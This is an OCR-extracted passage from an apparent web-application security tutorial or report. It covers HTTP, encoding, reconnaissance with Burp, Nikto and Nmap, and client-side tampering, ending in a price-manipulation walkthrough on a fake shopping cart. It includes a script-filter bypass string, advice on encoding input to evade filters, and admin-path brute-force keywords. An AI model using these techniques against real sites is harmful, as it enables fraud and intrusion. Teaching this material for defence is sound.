Therefore,validate the correct user is matched to the correct account before
permitting transactions. This sounds like common sense but the scope of web
application security is so large that these things are easily forgot during the
mapping of an application. There is no single solution to stopping bad Input, and
the answer is not always to clean some of it, but instead completely block it. In
other ways, as pointed out previously, blacklists are a terrible component to utilize.
Taking a look at an example of injecting html code into a web app form field shows
the complex nature of securing input. A blacklist may sanitize <script> when
being inputted but what if it is not done recursively. Effectively we have a defeated
filter but performing <scr<script>ipt> instead. A combination of all these
methods is more appropriate, but nothing is intuitive on defeating malformed input,
and it much be approached with great care.
While great care in stopping attacks is covered, how to handle attackersshould carry as much weight. Proper administration alerting should be employed,
and IP account blocking as a response to attacks. IPS/IDS should be deployed in
front of the webserver. Logs should be maintained and activated to respond to
suspicious behavior. Alerts should be relevant to any suspicious notions that do not
just include suspicious attack query strings. Unusual funds transfers for example, or
an unusual amount of IPs generating http requests to the server and/or unusual
activity coming from these large array of IPs. Securing the authentication method
for administrators is crucial. Many times administrator authentication and even the
interfaces admin panel an admin interacts with is not secured. This is because of
assumptions made by developers that only privileged users will ever access these
functions. If an attacker breaks auth on the admin side, they now control the entire
application and users. If the interface for admin is weak, the attacker can leverage
cross site scripting attacks to steal admin cookies for example. Imperative to
secure the admin interface as shown.

Technologies Needed to Be UnderstoodHttp is a connectionless method for the communication between server and
client, but it indeed uses the stateful protocol of TCP carry its messages. The
communication between client and server is initiated with the TCP handshake. The
http request and http response are the two message types between client (request)
and server(response). They both contain http headers. A brief overview of the
different types of headers should be examined. On the request side:
Accept(why type of content the browser can accept),Authorization(submits
credentials toserver),cookie(submits the cookie to server that was originally sent by

User-Agent(info on the browser being used), IF-NONE-MATCH(sends an entity tag
that was sent originally by server specific to the requested resource, server can
decide whether to use cached resource or send a dynamically updated newer one)
IF-MODIFIED-SINCE(Sends the time the request was last requested by the browser
and the server will reissue a cached version if nothing has changed)
Host(specifies the hostname that is part of the entire URL beingrequested.
On the server side we have the following notable headers as well:
Cache-Control will specific caching parameters of the resource. If it is never to be
cached it would issue a no-cache tag in this header field.
ETag- correlates with the entity tag that was sent by the browser. It is originally
generated by the server.
Expires- Specifies how long a client can access a cached resource before it is
ended. Server, importantly describes information aboutthe server in use.
Set-Cookie header sets the specific cookie that will be sent to the browser to
establish a session.
Two types of http requests must be discerned and they are post requests and
get requests. A post request is the most common request, as it performs an action
on the application, whereas get requests are more suitable for retrieving resources
from the URL. Other methods are the HEAD request, which is similar to a get
request, but only returns headers and no message body. A PUT request enables the
uploaded of a resource to a site, which can be leveraged for attack if enabled by the
server. Multiple cookies can be set in the Set-Cookie header for a http response.
The header can also specify different options, such as the path of the cookie,
whether or not it can only be transmitted over https, and when it may expire
effectively expiring a session. Some response codes should be understood before
attacking applications. 200-OK means successful transmission ofhttp request and
the full response hasreturned. 302 Found would specify a redirect to adifferent
url that would actually be specified in the Header location in the http response.
304 Not Modified reissues a cached resource, making that decision based on the IfNone-Match and If-Modified-Since headers in the http request. 400 Bad Request
will occur when an invalid URL is submitted, most likely due to some sort of
misspelling. 401 Unauthorized specifies a need to authenticate before accessing
a resource. 403 Forbidden specifies that a resource is not able to be accessed
even with authentication. 404 Not found specifies a resource is not in existence.
405 Method Not Allowed would specify using one of the methods spoken about
above, where it is not supported by the server. Example would be trying to upload a
script to a server where the PUT method is not allowed. The 413 Request Entity
Too Large response can be seen during buffer overflow attacks. 500 Internal

Server Error and 503 ServiceUnavailable are codes that are self-explanatory
server side issues.

Encoding will be used constantly within the sphere of attacking web

applications. The nature of html and http is that is extremely text based, therefore
is makes sense that heavy encoding has been utilized by both in order to provide
seamless transmission of unusual characters. Attackers can take advantage of the
inherent encoding schemes employed by web apps by decoding suspicious encoded
strings that are obviously protecting data, and even more devastatingly, encode
malformed data to bypass web filters. Concerning URL encoding, the following
character should always be URL encoded when being used to attack applications:
space % ? & = ; + #. Unicode encoding will used the most when trying to bypass
filters. HTML encoding will be utilized the most when looking to exploit apps that
are vulnerable to cross site scripting attacks. If the application returns the html
output for example, in a dialog box, with the html characters escaped, rest assured
the application should be vulnerable. Base-64 and hex encoded strings should both
be looked out for when analyzing the content in an http response message body.
Any of these strings should be decoded because it is likely that the real messages
contained in these encoded strings reveal information the developers do not want
being viewed.

Application Mapping
It is vital to enumerate all the content of a web app before attempting to
exploit it. All functionalities and pages of the web app should be discovered and
walked through. All forms and drop down menus should be explored extensively.
Automatic spidering is a useful method, to display many of the different areas of the
site that should be explored. This can be performed with the Spider in Burp Suite.Using this tool we can go through the different categories and function of the site.
Interesting URLs with more promising potential content can be spidered further to

dig deeper into the directory. Listing the directory contents alphabetically can allow
looking for specific keywords, for example login.asp. Pages like this should be
further analyzed and prioritized in the scope of attack. Automated spidering used
alone without any user directed spideringfalls short though. Auto spidering will
break functionality at many points, considering it may run into issue with apps that
reissue tokens a certain way at every different page load. It may also run into
problems at authentication pages. Even worse, automatic spidering by default will
look to navigate all drop down menus, and insert test strings into every possible
form field it can. While this can be useful, it can cause major alerts to go off on the
intrusion side, and in a worst case scenario, access some admin functionalities andperform requests that damage the functionality of the app. Lastly, automatic
spidering may miss URLs when building the site map, as well as hidden content.
Automatic spidering should be used in conjuction with user directed spidering.
Burp Suite, which acts as an interceptor proxy, will log
every request and response made to and from the browser and web app. Stepping
through each page manually will allow the user to approach things more
methodically. Users can login through authentication processes, and map the
pages that spawn as a result of elevated privileges. Once they discover relevant
pages by manual mapping, automated attacks can be launched to catch other
resources that are hidden. Examples of hidden content could be
admin.php,users.php,etc. These could be URLs that are not accessible via
spidering. Burp Suite and other tools allow text lists of keywords to be created anditerated through automatically. A good text list may contain keywords such as
admin, users ,accounting, access, accounts and more. If one could not access this
hidden content with spidering, a brute force of hundreds of requests using these
keywords appended to the proper hostname ( will expose it, and
effectively allow us to complete our site map. Another important tip is to always
check the sites robot.txt file. The robots.txt file will list URLs that the site does not
wish to be indexed by search engines.

In this example we see that for any browser

(User-agent:*), do not allow cowindex.xml. Upon going to that specific URL, it was
found to be a sitemap with dates appended to every resource that was updated the
past year, and specifications for when the resource was added. Attackers may alsoleverage public info in attacks. Using Google can come in handy for this. For
instance, searching will return all cached sites that have the
sitelinked within it. login is another useful example, as that
will return every result of the site that has the term login existing on it. One may
also look to access cached content during the recon phase. Sites like WayBack
Machine will allow an attacker to view a cached history of different versions of the
site. This can be useful because an older snapshot of the site may of not hidden
resources as effectively as newer versions, allowing you to gather more content to
apply to the update version.
An attack should also fingerprint the actual web server.
Depending on which web server the web application lies on, different technologies
will be employed, as well as different vulnerabilities. There areautomated and
manual methods involved in gathering information on the web server. The first
option is to actually use a scanner like Nikto, which will reveal much useful
information. It is important to note that scanners generate thousands of signature
requests and false positives can be a problem, so it is common practice to double
check any finds manually.

In the example above, the banner has been successfully grabbed, revealing that a
Microsoft IIS server is being employed. ASP.NET is the platform used on the
Microsoft servers.


The scan shows the HTTP methods allowed by the server. If the PUT method wasenabled that could be of interest, possibly allowing an attacker to upload malicious
scripts. The admin control panel page is also found, which was hidden during the
automatic spidering. (done from brute forcing common parameters)

Nmap scans are also an alternative. This scan reveals once again that it is an IIS
server and also reveals an FTP server is running on port 21. This can also be
leveraged for attacking. Attackers can also look at file extension to identify web
server technologies. If the extension asp is seen that concludes a Microsoft IIS
server is at play. Other notable extensions: .cfm(Cold Fusion), .aspx(MS,.jsp(Java Server Page), and php. Manually discovering the application
technology can be accomplished by taking advantage of apps that throw error
messages. An attacker can request a made up non-existent filename with the
correct extension and get an error message tailored to the missing resource. If for
example, the attacker then requests a resource that does not exist, but they use a
different technologies respective extension, they may get a simple page not found

error message. This allows the attack to deduce which technology is actually being

Client Side Control Attacks

A huge issue with web app security is client side
controls. Whether this is a cookie, html form, java applet, or a url parameter, many
function of a web app can be controlled client side. It should be understood that all
user input or for that matter, client submitted input isuntrusted. This makes sense,
considering that if application logic is controlled client side and not server side, the
client can control and manipulate the data. For instance, if the price of an object is
being submitted via a cookie, it would be trivial to intercept this cookie with an
intercepting proxy, and manipulate the cookies data. Even if the data is encoding, a
determined user can throw the strings through a gauntlet of automatic decoders. It
is at that point they would be able to re-encode their own value, and plug it back
into the http header, cookie, or HTML of the page. It is important therefore to
refrain from even allowing client side control overcritical items such as price. If a
user can intercept parameters such as amount and item name, so be it, but a
critical item such as prices and even discounts should be locked down server side.
If parameters must be handled by the client, they should be verified by the server
as well. For example, if the application encrypts the price of a phone, further
encryption of an item tag for example, should be appended and then check server
side. If the phone prices were just simply encrypted, the attacker could simply copy
the encrypted cheaper price, and substitute that string for a more expensive device
before submitting the request back to the server. The same way hidden html form
fields are manipulated, client side scripts can easily be manipulated to change the
output that benefits the attacker. It is common to see javascript where elements
are disabled, which disallow a browser from editing the feature. If this isnot locked
down it can be abused to be enabled. ASP.NET technology which is employed by
Microsoft servers utilized a feature called, View State. It is essentially a hidden
form field that contains serialized parameters that, like a cookie, are carried across
successive page requests for the users session. Parameters such as item prices or
shopping cart total are popularly carried across in the view state. The data is
usually base64 encoded, which is trivial to defeat with the Burp decoder. If the
developer insists on using the View State feature, it is recommended that they
EnableViewStateMac by setting this parameter to true. Upon enabling this mac,
a keyed hash is appended to the view state data, which hinders actual tampering
within the view state. Regardless of whether one can tamper with the data or not, it

is still important to view the actual data in the viewstate, because such decodeddata could possibly be utilized for submission to other fields across other pages of
the web app. When dealing with java code, such as casino games, where the applet
is controlled client side(which should not be done but has been seen!), an attacker
download the byte code and decompile it with a Java decompiler like Jad. Upon
decompiling the code and access the source code, an attacker could change for
example, a method to get the score, by submitting a static value like, 100,000,
and re-compilethe source code back into byte code. Finally, utilizing a way to reupload the new jar with your modified program can allow the attacker to submit
fraudulent scores to the server. It is imperative that developers obfuscate the Java
code to help frustrate attackers who are looking to review and manipulate source
Attacks:(See next Page)

A seemingly normal shopping cart for phones is seen above.(fake)


A hidden form field is located when looking at the source code of the page. So, it is
sent to Burp decoder. It is encoded as ASCII hex and decodes as price=449.

Seen above, we will change the price to 4 dollars instead, and re-encode it as to not
